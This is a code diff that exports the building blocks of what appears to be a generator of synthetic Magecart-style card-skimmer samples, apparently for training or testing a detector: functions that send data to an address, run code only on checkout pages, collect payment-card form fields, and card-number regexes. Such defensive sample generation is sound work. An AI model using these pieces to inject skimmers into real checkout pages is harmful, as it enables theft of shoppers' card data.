@@ -3,7 +3,7 @@
 import type { Family, Variation } from './variation.ts'
 
 /** A piece of code that sends the text in `what` away, one of many ways. */
-function leave(v: Variation, what: string): string {
+export function leave(v: Variation, what: string): string {
   const to = v.address()
   const url = v.pick([
     `'${to}'`,
@@ -46,7 +46,7 @@ const CHECKS = [
 ]
 
 /** Runs `code` on payment pages only. */
-function onCheckout(v: Variation, code: string): string {
+export function onCheckout(v: Variation, code: string): string {
   const word = v.pick(CHECKS)
   return v.pick([
     `if((new RegExp('${word}','gi')).test(window.location)){${code}}`,
@@ -58,7 +58,7 @@ function onCheckout(v: Variation, code: string): string {
   ])
 }
 
-const CARD_FIELDS = [
+export const CARD_FIELDS = [
   'cc_number',
   'authorizenet_cc_number',
   'payment[cc_number]',
@@ -88,7 +88,7 @@ const MORE_FIELDS = [
 ]
 
 /** Code that puts the page's fields into the variable `into`. */
-function harvest(v: Variation, into: string): string {
+export function harvest(v: Variation, into: string): string {
   const [a, b, c] = [v.id(10), v.id(11), v.id(12)]
   const fields = [v.pick(CARD_FIELDS), v.pick(MORE_FIELDS), v.pick(MORE_FIELDS), v.pick(MORE_FIELDS)]
   return v.pick([
@@ -105,14 +105,14 @@ function harvest(v: Variation, into: string): string {
   ])
 }
 
-const CARD_TEST = [
+export const CARD_TEST = [
   '/^4[0-9]{12}(?:[0-9]{3})?$|^5[1-5][0-9]{14}$/',
   '/[0-9]{13,16}/',
   '/(?:4[0-9]{12}(?:[0-9]{3})?|[25][1-7][0-9]{14}|6(?:011|5[0-9][0-9])[0-9]{12}|3[47][0-9]{13})/',
   '/\\b\\d{4}[ -]?\\d{4}[ -]?\\d{4}[ -]?\\d{4}\\b/',
 ]
 
-const skimmer = (name: string, make: Family['make']): Family => ({
+export const skimmer = (name: string, make: Family['make']): Family => ({
   name: `skimmer: ${name}`,
   label: 'magecart',
   make,
